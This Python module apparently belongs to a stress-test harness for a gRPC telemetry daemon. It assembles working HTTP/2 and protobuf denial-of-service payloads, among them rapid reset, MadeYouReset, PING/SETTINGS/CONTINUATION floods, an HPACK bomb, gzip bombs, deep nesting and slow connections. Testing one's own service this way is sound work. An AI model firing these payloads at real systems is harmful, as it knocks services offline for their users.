# SPDX-License-Identifier: Apache-2.0
"""The attacks, as bytes: what a connection sends first, and what it then repeats.

Everything is put together before the clock runs, so that the attacker's own cost is that of sending."""

from dataclasses import dataclass, field
import gzip
import struct
from typing import Callable

from hpack import Encoder
from hyperframe.frame import (
    ContinuationFrame, DataFrame, HeadersFrame, PingFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame)

from support import otlp
from support.grpcwire import PATHS, frame, headers

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL = 8
# As many as fit one connection before it is cut, and more than that.
STREAM_COUNT = 20_000
FRAME_SIZE_BYTES_MAX = 16_384
REFLECTION = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"


@dataclass
class Attack:
    """`opening` and `repeated` are bytes, or make them for a port."""

    what: str
    opening: Callable[[int], bytes]
    repeated: Callable[[int], bytes] = field(default=lambda port: b"")
    connections: int = 1
    # Whether the attacker takes what the daemon sends.
    reads: bool = True
    # Whether a connection that was cut, or has sent all, is opened anew; those who hold on to one do not.
    returns: bool = True
    # As long as it takes to see the end of those who hold on.
    seconds: int = 0
    # Of the daemon, that it is meant for.
    listener: str = "grpc"


def greeting(settings=None, acknowledges=True):
    """The preface, and the acknowledgement of SETTINGS that have not come yet, but will have been sent."""
    acknowledgement = SettingsFrame(0)
    acknowledgement.flags.add("ACK")
    return (PREFACE + SettingsFrame(0, settings or {}).serialize()
            + (acknowledgement.serialize() if acknowledges else b""))


class Heads:
    """Header blocks that do not depend on one another: the first fills the table, the second only names it."""

    def __init__(self, port, path=PATHS["traces"], more=()):
        encoder = Encoder()
        fields = [*headers(port, path=path), *more]
        self.first = encoder.encode(fields)
        self.rest = encoder.encode(fields)

    def block(self, number):
        return self.first if number == 0 else self.rest

    def frame(self, number, flags=("END_HEADERS",)):
        """HEADERS of the stream with that number, counted from 0."""
        head = HeadersFrame(2 * number + 1, self.block(number))
        head.flags |= set(flags)
        return head.serialize()


def data(number, body, ends=True):
    """The DATA frames of a body on the stream with that number."""
    parts = [body[start:start + FRAME_SIZE_BYTES_MAX] for start in range(0, len(body), FRAME_SIZE_BYTES_MAX)] or [b""]
    frames = [DataFrame(2 * number + 1, part) for part in parts]
    if ends:
        frames[-1].flags.add("END_STREAM")
    return b"".join(item.serialize() for item in frames)


def on_streams(make, count=STREAM_COUNT, settings=None, **head):
    """Opening: the greeting and `make(heads, number)` for many streams.

    Who does not acknowledge SETTINGS has streams too many refused one by one, instead of the connection.
    """
    def opening(port):
        heads = Heads(port, **head)
        return greeting(settings, acknowledges=False) + b"".join(make(heads, number) for number in range(count))
    return opening


def flood(make, size=2_000):
    """What is repeated for ever: the same frames, which need no stream."""
    return lambda port: make() * size


def export_body():
    return frame(otlp.request("traces").SerializeToString())


def calls(body, count=STREAM_COUNT, encoding=None):
    """Calls with the same body, one after the other."""
    more = [("grpc-encoding", encoding)] if encoding else []
    return on_streams(lambda heads, number: heads.frame(number) + data(number, body), count, more=more)


def gzipped(message):
    return frame(gzip.compress(message, 9), flag=1)


def varint(value):
    encoded = b""
    while value > 0x7F:
        encoded += bytes([value & 0x7F | 0x80])
        value >>= 7
    return encoded + bytes([value])


def field_of(number, content):
    return varint(number << 3 | 2) + varint(len(content)) + content


def spans(content):
    """An export whose one scope has `content` for its spans."""
    return field_of(1, field_of(2, content))


def nested(depth):
    value = b""
    for _ in range(depth):
        value = field_of(5, field_of(1, value))
    attribute = field_of(1, b"k") + field_of(2, value)
    return spans(field_of(2, field_of(9, attribute)))


def merged():
    """A resource, 80,000 times the same field, which protobuf merges into one."""
    return field_of(1, field_of(1, field_of(1, b"")) * 80_000)


def hpack_bomb(port):
    """One field of 4,000 bytes, named 130,000 times by one byte each."""
    block = Heads(port, more=[("x-bomb", "b" * 4000)]).first + bytes([0x80 | 62]) * 130_000
    parts = [block[start:start + 16_000] for start in range(0, len(block), 16_000)]

    def bomb(number):
        frames = [HeadersFrame(2 * number + 1, parts[0]), *(ContinuationFrame(2 * number + 1, part)
                                                            for part in parts[1:])]
        frames[-1].flags.add("END_HEADERS")
        return b"".join(item.serialize() for item in frames)
    return greeting() + b"".join(bomb(number) for number in range(40))


def questions(port):
    """Reflection, asked on every stream for what is large, with no window for the answers."""
    from grpc_reflection.v1alpha.reflection_pb2 import ServerReflectionRequest
    heads = Heads(port, path=REFLECTION)
    question = frame(ServerReflectionRequest(file_containing_symbol=PATHS["metrics"].split("/")[1])
                     .SerializeToString())
    return greeting({SettingsFrame.INITIAL_WINDOW_SIZE: 0}) + b"".join(
        heads.frame(number) + data(number, question * 200, ends=False) for number in range(100))


def question_bomb(port):
    """Reflection, asked for all services two thousand times in each message of fifty bytes."""
    heads = Heads(port, path=REFLECTION, more=[("grpc-encoding", "gzip")])
    question = gzipped(field_of(7, b"") * 2_000)
    return greeting() + b"".join(
        heads.frame(number) + data(number, question * 20) for number in range(200))


def half_headers(port):
    return greeting() + HeadersFrame(1, Heads(port).first).serialize()


def half_body(port):
    heads = Heads(port)
    return greeting() + b"".join(
        heads.frame(number) + data(number, struct.pack(">BI", 0, 60 << 20) + bytes(1000), ends=False)
        for number in range(100))


def made_you_reset(heads, number):
    return heads.frame(number) + WindowUpdateFrame(2 * number + 1, window_increment=2**31 - 1).serialize()


def rapid_reset(heads, number):
    return heads.frame(number) + RstStreamFrame(2 * number + 1, CANCEL).serialize()


def full_reset(heads, number, body=export_body()):
    return heads.frame(number) + data(number, body) + RstStreamFrame(2 * number + 1, CANCEL).serialize()


def on_one_stream(make, size):
    """A stream whose body never ends, and what is repeated on it."""
    return (lambda port: greeting() + Heads(port).frame(0) + data(0, struct.pack(">BI", 0, 32 << 20), ends=False),
            lambda port: make() * size)


def continuations(port):
    return greeting() + HeadersFrame(1, Heads(port).first).serialize()


def plain(port):
    return greeting()


ATTACKS = {
    # Frames
    "rapid reset": Attack("streams opened and cancelled (CVE-2023-44487)", on_streams(rapid_reset)),
    "rapid reset of exports": Attack("the same with a whole request in each", on_streams(full_reset, 8_000)),
    "MadeYouReset": Attack("streams that the daemon must reset (CVE-2025-8671)", on_streams(made_you_reset)),
    "streams too many": Attack("more streams than there may be, SETTINGS not acknowledged",
                               on_streams(lambda heads, number: heads.frame(number)), reads=False),
    "PING flood": Attack("PING as fast as possible (CVE-2019-9512)", plain,
                         flood(lambda: PingFrame(0, b"12345678").serialize())),
    "SETTINGS flood": Attack("SETTINGS as fast as possible (CVE-2019-9515)", plain,
                             flood(lambda: SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 65535}).serialize())),
    "WINDOW_UPDATE flood": Attack("windows raised by one byte, as fast as possible", plain,
                                  flood(lambda: WindowUpdateFrame(0, window_increment=1).serialize())),
    "unknown frames": Attack("frames of a kind that does not exist", plain,
                             flood(lambda: b"\0\0\0\xfa\0\0\0\0\0")),
    "empty DATA": Attack("DATA without bytes (CVE-2019-9518)",
                         *on_one_stream(lambda: DataFrame(1, b"").serialize(), 2_000)),
    "dribbled DATA": Attack("DATA of one byte (CVE-2019-9511)",
                            *on_one_stream(lambda: DataFrame(1, b"x").serialize(), 2_000)),
    "CONTINUATION flood": Attack("a header block without an end (CVE-2024-28182)", continuations,
                                 flood(lambda: ContinuationFrame(1, b"").serialize())),
    "HPACK bomb": Attack("150 KB of headers that mean 500 MB", hpack_bomb),
    # Peers that do not read, or do not write
    "answers not read": Attack("requests whose answers are not read (CVE-2019-9517)",
                               calls(export_body(), 5_000), connections=20, reads=False),
    "no window": Attack("requests with no window for their answers",
                        on_streams(lambda heads, number: heads.frame(number) + data(number, export_body()), 100,
                                   {SettingsFrame.INITIAL_WINDOW_SIZE: 0}), connections=20, returns=False),
    "reflection not read": Attack("questions to reflection with no window for the answers", questions,
                                  connections=50, returns=False),
    "reflection bomb": Attack("two thousand questions to reflection in one message", question_bomb),
    "slow: nothing": Attack("connections that say nothing", lambda port: b"", connections=400, returns=False, seconds=15),
    "slow: headers": Attack("header blocks that are begun", half_headers, connections=400, returns=False, seconds=15),
    "slow: bodies": Attack("a hundred bodies of 60 MiB begun on each connection", half_body, connections=100,
                           returns=False, seconds=15),
    "slow: idle": Attack("connections without a request", plain, connections=400, returns=False, seconds=15),
    # Messages
    "gzip bomb": Attack("64 MiB of zeros in 65 KB", calls(gzipped(bytes(64 << 20)), 200, "gzip")),
    "empty spans": Attack("a million empty spans in 4 KB: a hundred times their size in memory",
                          calls(gzipped(spans(field_of(2, b"") * 1_000_000)), 200, "gzip")),
    "poison spans": Attack("300,000 empty spans in 1 KB, which are taken and become dead letters",
                           calls(gzipped(spans(field_of(2, b"") * 300_000)), 200, "gzip")),
    "deep nesting": Attack("5,000 lists in one another", calls(frame(nested(5_000)), 500)),
    "repeated singular message": Attack("a resource 80,000 times: quadratic to merge", calls(frame(merged()), 50)),
    "unknown fields": Attack("two million unknown fields", calls(gzipped(b"\x78\x00" * 2_000_000), 200, "gzip")),
    "garbage": Attack("bytes that are no message", calls(frame(b"\xff" * 1000), 5_000)),
    # Connections
    "connections": Attack("connections opened and closed", lambda port: b"", connections=0),
}
